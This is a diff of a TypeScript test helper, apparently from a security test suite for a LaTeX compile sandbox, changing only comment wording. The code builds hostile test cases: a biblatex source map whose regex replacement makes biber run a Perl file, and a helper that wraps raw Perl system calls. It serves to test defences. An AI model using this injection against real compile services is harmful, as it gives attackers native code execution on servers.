@@ -1,12 +1,12 @@
 import { createHash } from 'node:crypto'
 import type { HostileRequest } from './hostile-case.ts'
 
-/** A document of class article. */
+/** A document with the class article. */
 export function article(body: string, preamble = ''): string {
   return `\\documentclass{article}\n${preamble}\n\\begin{document}\n${body}\n\\end{document}\n`
 }
 
-/** What native code prints first, as the proof that it ran. */
+/** Printed first by native code, as proof that it ran. */
 export const NATIVE_PROOF = 'native code runs here'
 
 const BIBLIOGRAPHY = '@book{key, title = {Title}, author = {Author, A.}, year = {2000}}\n'
@@ -14,7 +14,7 @@ const BIBLIOGRAPHY = '@book{key, title = {Title}, author = {Author, A.}, year = 
 /**
  * A biblatex document whose source map makes biber run a Perl script: biber evaluates the replacement of a map.
  *
- * Other versions of biber may not, and then the proof is missing and the case fails, as it should.
+ * With a version of biber that does not, the proof is missing and the case fails.
  */
 export function nativeRequest(perl: string, options: { readonly timeout?: number } = {}): HostileRequest {
   const map = String.raw`\step[fieldsource=title, match=\regexp{.+}, replace=\regexp{@{[do(q(./payload.pl))]}}]`
@@ -26,14 +26,14 @@ export function nativeRequest(perl: string, options: { readonly timeout?: number
     passes: 2,
     timeout: options.timeout ?? 20_000,
     files: [
-      // Of its own: bibliographies are kept by their input, and the attack must run.
+      // Unique, because bibliographies are cached by their input, and the attack must run.
       ['refs.bib', `${BIBLIOGRAPHY}\n% ${createHash('sha256').update(perl).digest('hex')}\n`],
       ['payload.pl', `$| = 1; print "${NATIVE_PROOF}\\n";\n${perl}\n; 1;\n`],
     ],
   }
 }
 
-/** A Perl expression that makes a system call; Perl insists that texts handed to the kernel can be written to. */
+/** A Perl expression that makes a system call; Perl requires writable strings for the kernel. */
 export function systemCall(numbersAndTexts: string): string {
   return `syscall(${numbersAndTexts.replaceAll(/"[^"]*"/g, (text) => `(my $text = ${text})`)})`
 }
